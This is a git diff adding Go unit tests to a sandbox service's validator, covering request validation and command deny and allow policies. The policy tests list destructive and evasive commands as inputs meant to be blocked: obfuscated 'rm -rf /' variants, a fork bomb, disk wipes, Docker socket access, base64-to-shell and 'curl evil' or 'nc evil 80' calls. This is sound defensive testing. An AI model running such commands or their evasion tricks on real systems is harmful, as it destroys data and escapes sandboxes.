@@ -1,10 +1,15 @@
 package unit
 
 import (
+	"errors"
+	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 
+	"github.com/sciffer/agentbox/internal/config"
 	"github.com/sciffer/agentbox/pkg/models"
 	"github.com/sciffer/agentbox/pkg/validator"
 )
@@ -620,6 +625,160 @@ func TestValidateTolerations(t *testing.T) {
 	}
 }
 
+func TestValidateCreateRequestReportsAllViolations(t *testing.T) {
+	v := validator.New(10000, 10*1024*1024*1024, 100*1024*1024*1024, 86400)
+
+	err := v.ValidateCreateRequest(&models.CreateEnvironmentRequest{
+		Name: "Invalid_Name",
+		Resources: models.ResourceSpec{
+			CPU:     "lots",
+			Memory:  "512Mi",
+			Storage: "",
+		},
+		Timeout: -1,
+		Tolerations: []models.Toleration{
+			{Key: "ok", Operator: "Exists", Effect: "NoSchedule"},
+			{Key: "bad", Operator: "Equal", Effect: "Sometimes"},
+		},
+		Pool: &models.PoolConfig{Enabled: true, Size: 30},
+	})
+	require.Error(t, err)
+
+	var verrs validator.ValidationErrors
+	require.True(t, errors.As(err, &verrs))
+
+	fields := make(map[string]string)
+	for _, ve := range verrs {
+		fields[ve.Field] = ve.Code
+		assert.NotEmpty(t, ve.Message)
+	}
+	assert.Equal(t, validator.CodeInvalidFormat, fields["name"])
+	assert.Equal(t, validator.CodeRequired, fields["image"])
+	assert.Equal(t, validator.CodeInvalidFormat, fields["resources.cpu"])
+	assert.Equal(t, validator.CodeRequired, fields["resources.storage"])
+	assert.Equal(t, validator.CodeOutOfRange, fields["timeout"])
+	assert.Equal(t, validator.CodeInvalidValue, fields["tolerations[1].effect"])
+	assert.Equal(t, validator.CodeOutOfRange, fields["pool.size"])
+	assert.NotContains(t, fields, "resources.memory")
+	assert.NotContains(t, fields, "tolerations[0].effect")
+	assert.Len(t, verrs, 7)
+
+	// The combined message still carries every violation
+	assert.Contains(t, err.Error(), "image is required")
+	assert.Contains(t, err.Error(), "pool.size must be 20 or less")
+
+	// Callers interested in a single violation can still extract one
+	var first validator.ValidationError
+	require.True(t, errors.As(err, &first))
+	assert.Equal(t, "name", first.Field)
+}
+
+func TestValidateExecRequestReportsAllViolations(t *testing.T) {
+	v := validator.New(10000, 10*1024*1024*1024, 100*1024*1024*1024, 86400)
+
+	err := v.ValidateExecRequest(&models.ExecRequest{Timeout: -5})
+	var verrs validator.ValidationErrors
+	require.True(t, errors.As(err, &verrs))
+	require.Len(t, verrs, 2)
+	assert.Equal(t, "command", verrs[0].Field)
+	assert.Equal(t, "timeout", verrs[1].Field)
+}
+
+func TestValidateEphemeralExecRequestOverrides(t *testing.T) {
+	v := validator.New(4000, 8*1024*1024*1024, 100*1024*1024*1024, 86400)
+
+	// Resource fields may be omitted to keep the environment's values
+	assert.NoError(t, v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{
+		Command:   []string{"python", "train.py"},
+		Image:     "python:3.12-slim",
+		Resources: &models.ResourceSpec{Memory: "4Gi"},
+		Isolation: &models.IsolationConfig{RuntimeClass: "kata"},
+	}))
+
+	err := v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{
+		Command:   []string{"ls"},
+		Resources: &models.ResourceSpec{CPU: "8000m", Memory: "lots"},
+		Isolation: &models.IsolationConfig{
+			RuntimeClass:  "Not_Valid",
+			NetworkPolicy: &models.NetworkPolicyConfig{AllowInternet: true},
+		},
+	})
+	var verrs validator.ValidationErrors
+	require.True(t, errors.As(err, &verrs))
+	var fields []string
+	for _, ve := range verrs {
+		fields = append(fields, ve.Field)
+	}
+	assert.Equal(t, []string{"resources.cpu", "resources.memory", "isolation.runtime_class", "isolation.network_policy"}, fields)
+
+	err = v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{})
+	require.True(t, errors.As(err, &verrs))
+	assert.Equal(t, "command", verrs[0].Field)
+}
+
+func TestValidateCommandAndEnv(t *testing.T) {
+	v := validator.New(10000, 10*1024*1024*1024, 100*1024*1024*1024, 86400)
+	fieldsOf := func(err error) []string {
+		var verrs validator.ValidationErrors
+		require.True(t, errors.As(err, &verrs), "expected validation errors")
+		fields := make([]string, 0, len(verrs))
+		for _, ve := range verrs {
+			fields = append(fields, ve.Field)
+		}
+		return fields
+	}
+
+	assert.NoError(t, v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{
+		Command: []string{"sh", "-c", "echo $GREETING"},
+		Env:     map[string]string{"GREETING": "hello", "_private": "x", "PATH2": ""},
+	}))
+
+	err := v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{
+		Command: []string{" ", "ok", ""},
+		Env: map[string]string{
+			"":         "empty",
+			"A=B":      "x",
+			"1ST":      "x",
+			"HAS_NUL":  "a\x00b",
+			"TOO_LONG": strings.Repeat("x", validator.MaxEnvValueBytes+1),
+		},
+	})
+	assert.Equal(t, []string{"command[0]", "command[2]", "env", "env.1ST", "env.A=B", "env.HAS_NUL", "env.TOO_LONG"}, fieldsOf(err))
+
+	// The same checks apply to environments (whose command is optional) and pipeline steps
+	err = v.ValidateCreateRequest(&models.CreateEnvironmentRequest{
+		Name:      "env-checks",
+		Image:     "python:3.11-slim",
+		Resources: models.ResourceSpec{CPU: "500m", Memory: "512Mi", Storage: "1Gi"},
+		Command:   []string{"python ", "app.py"},
+		Env:       map[string]string{"my.var": "x"},
+	})
+	assert.Equal(t, []string{"command[0]", "env.my.var"}, fieldsOf(err))
+	err = v.ValidateCreatePipelineRequest(&models.CreatePipelineRequest{Steps: []models.PipelineStepRequest{
+		{Name: "build", Command: []string{"make"}, Env: map[string]string{"BAD-NAME": "x"}},
+	}})
+	assert.Equal(t, []string{"steps[0].env.BAD-NAME"}, fieldsOf(err))
+
+	// Relaxed names allow what Kubernetes accepts
+	v.SetRelaxedEnvNames(true)
+	assert.NoError(t, v.ValidateExecRequest(&models.ExecRequest{Command: []string{"ls"}}))
+	err = v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{
+		Command: []string{"ls"},
+		Env:     map[string]string{"my.var": "x", "BAD-NAME": "x", "A=B": "x"},
+	})
+	assert.Equal(t, []string{"env.A=B"}, fieldsOf(err))
+
+	// Count and size caps
+	many := make(map[string]string, validator.MaxEnvVars+1)
+	for i := 0; i <= validator.MaxEnvVars; i++ {
+		many[fmt.Sprintf("VAR_%d", i)] = "x"
+	}
+	err = v.ValidateEphemeralExecRequest(&models.EphemeralExecRequest{Command: []string{"ls"}, Env: many})
+	assert.Equal(t, []string{"env"}, fieldsOf(err))
+	err = v.ValidateExecRequest(&models.ExecRequest{Command: []string{"echo", strings.Repeat("x", validator.MaxCommandBytes)}})
+	assert.Equal(t, []string{"command"}, fieldsOf(err))
+}
+
 // ptr is a helper function to create a pointer to an int64
 func ptr(i int64) *int64 {
 	return &i
@@ -973,6 +1132,50 @@ func TestValidateIsolationConfig(t *testing.T) {
 	}
 }
 
+func TestValidateReadinessCheck(t *testing.T) {
+	v := validator.New(10000, 10*1024*1024*1024, 100*1024*1024*1024, 86400)
+
+	tests := []struct {
+		name     string
+		check    *models.ReadinessCheck
+		errorMsg string
+	}{
+		{name: "exec", check: &models.ReadinessCheck{Exec: []string{"pg_isready"}, IntervalSeconds: 1}},
+		{name: "http get", check: &models.ReadinessCheck{HTTPGet: &models.HTTPGetCheck{Port: 8080, Path: "/healthz"}}},
+		{name: "file exists", check: &models.ReadinessCheck{FileExists: "/tmp/ready", FailureThreshold: 5}},
+		{name: "no probe", check: &models.ReadinessCheck{}, errorMsg: "exactly one of"},
+		{
+			name:     "two probes",
+			check:    &models.ReadinessCheck{Exec: []string{"true"}, FileExists: "/tmp/ready"},
+			errorMsg: "exactly one of",
+		},
+		{name: "bad port", check: &models.ReadinessCheck{HTTPGet: &models.HTTPGetCheck{Port: 70000}}, errorMsg: "between 1 and 65535"},
+		{name: "relative path", check: &models.ReadinessCheck{FileExists: "tmp/ready"}, errorMsg: "absolute path"},
+		{
+			name:     "negative interval",
+			check:    &models.ReadinessCheck{Exec: []string{"true"}, IntervalSeconds: -1},
+			errorMsg: "interval_seconds cannot be negative",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := v.ValidateCreateRequest(&models.CreateEnvironmentRequest{
+				Name:           "test-env",
+				Image:          "python:3.11-slim",
+				Resources:      models.ResourceSpec{CPU: "500m", Memory: "512Mi", Storage: "1Gi"},
+				ReadinessCheck: tt.check,
+			})
+			if tt.errorMsg == "" {
+				assert.NoError(t, err)
+				return
+			}
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), tt.errorMsg)
+		})
+	}
+}
+
 func TestValidatePoolConfig(t *testing.T) {
 	v := validator.New(10000, 10*1024*1024*1024, 100*1024*1024*1024, 86400)
 
@@ -1156,6 +1359,23 @@ func TestValidatePoolConfig(t *testing.T) {
 				},
 			},
 			expectError: false,
+		}, {
+			name: "invalid prewarm_on_create without enabled pool",
+			request: models.CreateEnvironmentRequest{
+				Name:  "test-env",
+				Image: "python:3.11-slim",
+				Resources: models.ResourceSpec{
+					CPU:     "500m",
+					Memory:  "512Mi",
+					Storage: "1Gi",
+				},
+				Pool: &models.PoolConfig{
+					Size:            2,
+					PrewarmOnCreate: true,
+				},
+			},
+			expectError: true,
+			errorMsg:    "pool.prewarm_on_create requires pool.enabled",
 		},
 	}
 
@@ -1174,3 +1394,189 @@ func TestValidatePoolConfig(t *testing.T) {
 		})
 	}
 }
+
+func TestValidatorSetLimits(t *testing.T) {
+	v := validator.New(1000, 1024*1024*1024, 10*1024*1024*1024, 600)
+	spec := &models.ResourceSpec{CPU: "2", Memory: "2Gi", Storage: "1Gi"}
+	require.Error(t, v.ValidateResourceSpec(spec))
+
+	require.NoError(t, v.SetLimits("4000m", "4Gi", "20Gi", 3600))
+	assert.NoError(t, v.ValidateResourceSpec(spec))
+	assert.NoError(t, v.ValidateExecRequest(&models.ExecRequest{Command: []string{"ls"}, Timeout: 1800}))
+
+	// Invalid limits are rejected and the current ones kept
+	assert.Error(t, v.SetLimits("lots", "4Gi", "20Gi", 3600))
+	assert.NoError(t, v.ValidateResourceSpec(spec))
+}
+
+func TestEvaluateCommandPolicyDenyPatterns(t *testing.T) {
+	global := &models.CommandPolicy{DenyPatterns: config.DefaultCommandDenyPatterns}
+
+	tests := []struct {
+		name    string
+		command []string
+		denied  bool
+	}{
+		{"plain rm of root", []string{"rm", "-rf", "/"}, true},
+		{"absolute rm path", []string{"/bin/rm", "-rf", "/"}, true},
+		{"split flags", []string{"rm", "-r", "-f", "/"}, true},
+		{"long flags", []string{"rm", "--recursive", "--force", "--no-preserve-root", "/"}, true},
+		{"glob of root", []string{"rm", "-fr", "/*"}, true},
+		{"repeated slashes", []string{"rm", "-rf", "//"}, true},
+		{"shell script", []string{"sh", "-c", "rm -rf /"}, true},
+		{"shell script after another command", []string{"sh", "-c", "cd /tmp && rm -rf / ; echo done"}, true},
+		{"quoted binary", []string{"bash", "-c", `r"m" -rf /`}, true},
+		{"single quoted words", []string{"bash", "-c", `'rm' '-rf' '/'`}, true},
+		{"backslash escaped binary", []string{"bash", "-c", `\rm -rf /`}, true},
+		{"ANSI-C hex escapes", []string{"bash", "-c", `$'\x72\x6d' -rf /`}, true},
+		{"octal escapes", []string{"bash", "-c", `$'\162\155' -rf /`}, true},
+		{"IFS instead of spaces", []string{"bash", "-c", "rm${IFS}-rf${IFS}/"}, true},
+		{"bare IFS", []string{"bash", "-c", "rm$IFS-rf$IFS/"}, true},
+		{"empty positional parameters", []string{"bash", "-c", "r$@m -rf /"}, true},
+		{"command substitution", []string{"sh", "-c", "echo $(rm -rf /)"}, true},
+		{"backticks", []string{"sh", "-c", "echo `rm -rf /`"}, true},
+		{"docker socket via curl", []string{"curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"}, true},
+		{"docker socket in script", []string{"sh", "-c", "ls -la /var/run/docker.sock"}, true},
+		{"base64 piped to shell", []string{"sh", "-c", "echo cm0gLXJmIC8K | base64 -d | sh"}, true},
+		{"base64 long flag piped to bash", []string{"sh", "-c", "echo cm0gLXJmIC8K | base64 --decode | /bin/bash"}, true},
+		{"fork bomb", []string{"bash", "-c", ":(){ :|:& };:"}, true},
+		{"mkfs", []string{"mkfs.ext4", "/dev/sda1"}, true},
+		{"dd to device", []string{"dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"}, true},
+		{"list root", []string{"ls", "-la", "/"}, false},
+		{"rm of a subdirectory", []string{"rm", "-rf", "/tmp/build"}, false},
+		{"rm of the working directory", []string{"rm", "-rf", "./"}, false},
+		{"rm of a quoted path with spaces", []string{"sh", "-c", `rm -rf "/tmp/my dir"`}, false},
+		{"python one-liner", []string{"python", "-c", "print('hello')"}, false},
+		{"base64 decode to file", []string{"sh", "-c", "echo aGk= | base64 -d > /tmp/out"}, false},
+		{"dd to a file", []string{"dd", "if=/dev/zero", "of=/tmp/file", "bs=1M", "count=1"}, false},
+		{"program named like a denied one", []string{"sh", "-c", "farm -rf /"}, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validator.EvaluateCommandPolicy(tt.command, global, nil)
+			if !tt.denied {
+				assert.NoError(t, err)
+				return
+			}
+			var violation *validator.CommandPolicyViolation
+			require.True(t, errors.As(err, &violation), "expected %q to be denied", tt.command)
+			assert.Equal(t, validator.PolicyRuleDenyPattern, violation.Rule)
+		})
+	}
+}
+
+func TestEvaluateCommandPolicyAllowlist(t *testing.T) {
+	env := &models.CommandPolicy{AllowedBinaries: []string{"python", "/usr/bin/pip", "sh", "env"}}
+
+	tests := []struct {
+		name    string
+		command []string
+		denied  string // binary reported as not allowed ("" = allowed)
+	}{
+		{"listed binary", []string{"python", "script.py"}, ""},
+		{"listed binary by path", []string{"/usr/local/bin/python", "script.py"}, ""},
+		{"listed by path, run by name", []string{"pip", "install", "requests"}, ""},
+		{"unlisted binary", []string{"curl", "http://example.com"}, "curl"},
+		{"unlisted shell", []string{"bash", "-c", "python x.py"}, "bash"},
+		{"script of listed commands", []string{"sh", "-c", "pip install requests && python -c \"import requests; print(1)\""}, ""},
+		{"script with assignments and keywords", []string{"sh", "-c", "FOO=1 python a.py; if true; then python b.py; fi"}, "true"},
+		{"unlisted command after &&", []string{"sh", "-c", "python a.py && curl evil"}, "curl"},
+		{"unlisted command after pipe", []string{"sh", "-c", "python a.py | nc evil 80"}, "nc"},
+		{"unlisted command after newline", []string{"sh", "-c", "python a.py\nwget evil"}, "wget"},
+		{"command substitution", []string{"sh", "-c", "python $(curl evil)"}, "curl"},
+		{"command substitution inside double quotes", []string{"sh", "-c", `python "$(curl evil)"`}, "curl"},
+		{"backticks", []string{"sh", "-c", "python `curl evil`"}, "curl"},
+		{"separators inside single quotes are data", []string{"sh", "-c", "python -c 'a; b | c'"}, ""},
+		{"combined shell flags", []string{"sh", "-ec", "curl evil"}, "curl"},
+		{"nested shell", []string{"sh", "-c", "sh -c 'curl evil'"}, "curl"},
+		{"quoted binary name", []string{"sh", "-c", `"cu"rl evil`}, "curl"},
+		{"wrapper runs unlisted binary", []string{"env", "FOO=1", "-i", "curl", "evil"}, "curl"},
+		{"wrapper runs listed binary", []string{"env", "PYTHONPATH=/app", "python", "x.py"}, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validator.EvaluateCommandPolicy(tt.command, nil, env)
+			if tt.denied == "" {
+				assert.NoError(t, err)
+				return
+			}
+			var violation *validator.CommandPolicyViolation
+			require.True(t, errors.As(err, &violation), "expected %q to be denied", tt.command)
+			assert.Equal(t, validator.PolicyRuleBinaryNotAllowed, violation.Rule)
+			assert.Contains(t, violation.Message, `"`+tt.denied+`"`)
+		})
+	}
+}
+
+func TestEvaluateCommandPolicyMerge(t *testing.T) {
+	global := &models.CommandPolicy{
+		DenyPatterns:    []string{`docker\.sock`},
+		AllowedBinaries: []string{"ls"},
+		MaxArgLength:    100,
+	}
+
+	// Environment deny patterns are added to the global ones
+	env := &models.CommandPolicy{DenyPatterns: []string{`secret`}}
+	assert.Error(t, validator.EvaluateCommandPolicy([]string{"ls", "/var/run/docker.sock"}, global, env))
+	assert.Error(t, validator.EvaluateCommandPolicy([]string{"ls", "/secret"}, global, env))
+	assert.NoError(t, validator.EvaluateCommandPolicy([]string{"ls", "/tmp"}, global, env))
+
+	// The environment allowlist replaces the global one
+	assert.Error(t, validator.EvaluateCommandPolicy([]string{"python"}, global, nil))
+	assert.NoError(t, validator.EvaluateCommandPolicy([]string{"python"}, global, &models.CommandPolicy{AllowedBinaries: []string{"python"}}))
+
+	// The smaller argument limit wins
+	long := strings.Repeat("a", 60)
+	assert.NoError(t, validator.EvaluateCommandPolicy([]string{"ls", long}, global, nil))
+	err := validator.EvaluateCommandPolicy([]string{"ls", long}, global, &models.CommandPolicy{MaxArgLength: 50})
+	var violation *validator.CommandPolicyViolation
+	require.True(t, errors.As(err, &violation))
+	assert.Equal(t, validator.PolicyRuleArgTooLong, violation.Rule)
+	assert.NoError(t, validator.EvaluateCommandPolicy([]string{"ls", long}, global, &models.CommandPolicy{MaxArgLength: 500}))
+
+	// NUL bytes are always rejected
+	err = validator.EvaluateCommandPolicy([]string{"ls", "/tmp\x00/etc"}, nil, nil)
+	require.True(t, errors.As(err, &violation))
+	assert.Equal(t, validator.PolicyRuleInvalidArgument, violation.Rule)
+
+	// Unrestricted environments skip every check
+	unrestricted := &models.CommandPolicy{Unrestricted: true}
+	assert.NoError(t, validator.EvaluateCommandPolicy([]string{"curl", "--unix-socket", "/var/run/docker.sock"}, global, unrestricted))
+
+	// No policy at all allows everything
+	assert.NoError(t, validator.EvaluateCommandPolicy([]string{"rm", "-rf", "/"}, nil, nil))
+}
+
+func TestValidateCommandPolicy(t *testing.T) {
+	v := validator.New(10000, 10*1024*1024*1024, 100*1024*1024*1024, 86400)
+
+	assert.NoError(t, v.ValidateCommandPolicy(&models.CommandPolicy{DenyPatterns: []string{`curl\s`}, AllowedBinaries: []string{"ls"}}))
+
+	err := v.ValidateCommandPolicy(&models.CommandPolicy{
+		DenyPatterns:    []string{`(unclosed`},
+		AllowedBinaries: []string{" "},
+		MaxArgLength:    -1,
+	})
+	var verrs validator.ValidationErrors
+	require.True(t, errors.As(err, &verrs))
+	require.Len(t, verrs, 3)
+	assert.Equal(t, "command_policy.deny_patterns[0]", verrs[0].Field)
+	assert.Equal(t, "command_policy.allowed_binaries[0]", verrs[1].Field)
+	assert.Equal(t, "command_policy.max_arg_length", verrs[2].Field)
+
+	// Create requests are validated too
+	err = v.ValidateCreateRequest(&models.CreateEnvironmentRequest{
+		Name:          "policy-env",
+		Image:         "python:3.11-slim",
+		Resources:     models.ResourceSpec{CPU: "500m", Memory: "512Mi", Storage: "1Gi"},
+		CommandPolicy: &models.CommandPolicy{DenyPatterns: []string{`[`}},
+	})
+	assert.Error(t, err)
+
+	// Exec requests with NUL bytes are invalid
+	err = v.ValidateExecRequest(&models.ExecRequest{Command: []string{"cat", "/tmp/a\x00b"}})
+	require.True(t, errors.As(err, &verrs))
+	assert.Equal(t, "command[1]", verrs[0].Field)
+}